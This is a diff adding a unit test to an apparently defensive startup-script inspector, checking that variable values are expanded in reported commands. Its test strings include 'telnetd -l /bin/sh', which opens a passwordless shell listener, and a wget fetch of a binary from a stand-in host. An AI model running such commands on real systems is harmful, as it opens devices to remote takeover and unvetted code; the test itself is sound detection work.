@@ -139,6 +139,35 @@ static void test_links(void **state)
 	CHECK(examples);
 }
 
+/* What variables hold is shown beside the command as written. */
+static void test_expanded(void **state)
+{
+	(void)state;
+	static const char *const cases[][2] = {
+		{ "telnetd -l /bin/sh\n", NULL },
+		{ "O=\"-l /bin/sh\"\ntelnetd $O -p 23\n", "telnetd -l /bin/sh -p 23" },
+		{ "U=http://x.example\nwget -q $U/a.bin\n", "wget -q http://x.example/a.bin" },
+		{ "telnetd -p $UNKNOWN$(cat /port)\n", "telnetd -p ?" },
+	};
+	for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		struct arena *scratch = arena_new(0), *kept = arena_new(0);
+		struct fact_list list;
+		fact_list_init(&list, kept);
+		struct subject s = { .bytes = span_of(cases[i][0], strlen(cases[i][0])), .path = TEXT_LIT("/etc/init.d/rcS"),
+							 .kind = ENTRY_FILE, .mode = 0755, .format = "script", .arena = scratch };
+		startup_inspector.run(&s, &list.sink);
+		const struct fact_startup *row = NULL, *next;
+		for (size_t k = 0; (next = fact_list_get(&list, FACT_startup, k)); k++)
+			row = text_is(next->program, "cat") ? row : next;
+		assert_non_null(row);
+		bool same = cases[i][1] ? text_is(row->expanded, cases[i][1]) : !row->expanded.p;
+		if (!same)
+			fail_msg("%s: %.*s", cases[i][0], (int)row->expanded.n, row->expanded.p);
+		arena_free(scratch);
+		arena_free(kept);
+	}
+}
+
 struct conditional {
 	const char *script, *program, *condition; /* of the row of that program; NULL: none */
 };
@@ -537,7 +566,7 @@ static void test_damage(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(test_inittab),       cmocka_unit_test(test_links),     cmocka_unit_test(test_conditions), cmocka_unit_test(test_shell),
+		cmocka_unit_test(test_inittab),       cmocka_unit_test(test_links),     cmocka_unit_test(test_conditions), cmocka_unit_test(test_expanded), cmocka_unit_test(test_shell),
 		cmocka_unit_test(test_programs),      cmocka_unit_test(test_openwrt),   cmocka_unit_test(test_init_scripts),
 		cmocka_unit_test(test_super_servers), cmocka_unit_test(test_systemd),   cmocka_unit_test(test_survives),
 		cmocka_unit_test(test_damage),        cmocka_unit_test(test_is_linear),
